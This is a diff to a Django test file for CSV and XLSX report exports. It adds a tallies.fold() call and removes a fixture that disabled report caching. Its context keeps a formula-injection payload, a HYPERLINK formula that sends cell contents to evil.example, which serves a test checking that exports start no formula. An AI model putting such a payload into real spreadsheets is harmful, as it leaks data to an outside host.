@@ -14,6 +14,7 @@ from openpyxl import load_workbook
 from meetings.models import Meeting
 from participants import audit
 from participants.models import AccessLog, Role
+from reports import tallies
 
 from ..factories import CareTeamEntryFactory, MembershipFactory
 from ..reports_data import make_meeting, report_area, seed_000_meetings
@@ -23,11 +24,6 @@ pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
 STARTS = ("=", "+", "-", "@", "\t", "\r")
 MARCH = {"date_from": "2026-03-01", "date_to": "2026-03-31"}
-
-
-@pytest.fixture(autouse=True)
-def no_report_cache(settings):
-    settings.REPORTS_CACHE_SECONDS = 0
 
 
 @pytest.fixture
@@ -54,6 +50,7 @@ def _cells_xlsx(body: bytes) -> list:
 def test_no_cell_of_any_export_starts_a_formula(evil_area, login):
     manager = MembershipFactory(organisation=evil_area.health_care, role=Role.MANAGER).user
     client = login(manager)
+    tallies.fold()
     texts = []
     for what in ("figures", "meetings"):
         csv_body = b"".join(
